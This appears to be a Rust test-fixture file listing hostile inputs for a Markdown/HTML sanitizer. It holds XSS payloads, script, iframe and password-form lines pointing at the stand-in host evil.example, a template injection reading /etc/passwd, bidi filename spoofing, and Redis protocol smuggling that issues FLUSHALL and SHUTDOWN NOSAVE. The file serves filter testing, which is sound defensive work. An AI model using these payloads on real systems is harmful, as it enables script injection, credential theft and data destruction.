//! What hostile articles say: well-known ways to run code where text is expected, out of the
//! collections that such filters are tried with.

// Blocks of Markdown.

pub(super) const SCRIPTS: [&str; 5] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "text <scr<script>ipt>alert(1)</script> text",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
];
pub(super) const SCRIPT_URLS: [&str; 7] = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=' javascript&colon;alert(1)'>click</a>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](vbscript:msgbox) and <javascript:alert(1)>",
];
pub(super) const EVENT_HANDLERS: [&str; 5] = [
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">text</p>",
    "<details open ontoggle=alert(1)>text</details>",
    "text <b/onmouseover=alert(1)>text</b>",
    "<svg onload=alert(1)>",
];
pub(super) const EMBEDDINGS: [&str; 7] = [
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
    "<style>body { display: none } @import \"//evil.example/x.css\";</style>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
    "<img name=body id=body src=\"https://example.org/a.png\" style=\"position:fixed\">",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
];
pub(super) const OPEN_MARKUP: [&str; 6] = [
    "<!-- all of this is gone",
    "<script>alert(1)",
    "<textarea>",
    "<plaintext>",
    "<![CDATA[ <b>",
    "<a href=\"https://example.org/",
];
pub(super) const MISNESTED: [&str; 4] = [
    "<b><i><a href=/x></b></i><p>text</a>",
    "<table><tr><td><div></table></div><b>text",
    "</div></article></main></body></html><h1>text</h1>",
    "<ul><li><p><b><li></ul></p></b>text",
];

// Texts of fields, quoted for YAML.

pub(super) const TEMPLATES: [&str; 4] = [
    "\"{{ 7 * 7 }}\"",
    "\"{% include '/etc/passwd' %}\"",
    "\"{{ article.__class__ }} ${7 * 7} <%= 7 * 7 %>\"",
    "\"{# {{ config }} #}{% for x in range(999999999) %}{% endfor %}\"",
];
pub(super) const BREAKOUTS: [&str; 5] = [
    "\"--></script><script>alert(1)</script>\"",
    "\"<!--<script>\"",
    "\"\\\"><img src=x onerror=alert(1)>\"",
    "\"']]></style></title><svg onload=alert(1)>\"",
    "\"<!--anp:0123456789abcdef-->\"",
];
pub(super) const BIDI: [&str; 3] = [
    "\"invoice\u{202e}fdp.exe\"",
    "\"\u{2067}text\u{2066} // check\u{2069}\"",
    "\"\\u202Etxet\"",
];
pub(super) const CONTROLS: [&str; 3] = [
    "\"a\\0b\"",
    "\"\\e[2J\\e]0;title\\a\"",
    "\"a\\x9bb\\x7f\\u200b\"",
];
pub(super) const PROTOCOL: [&str; 2] = [
    "\"x\\r\\n*1\\r\\n$8\\r\\nFLUSHALL\\r\\n\"",
    "\"x\\n\\nSHUTDOWN NOSAVE\\n\"",
];
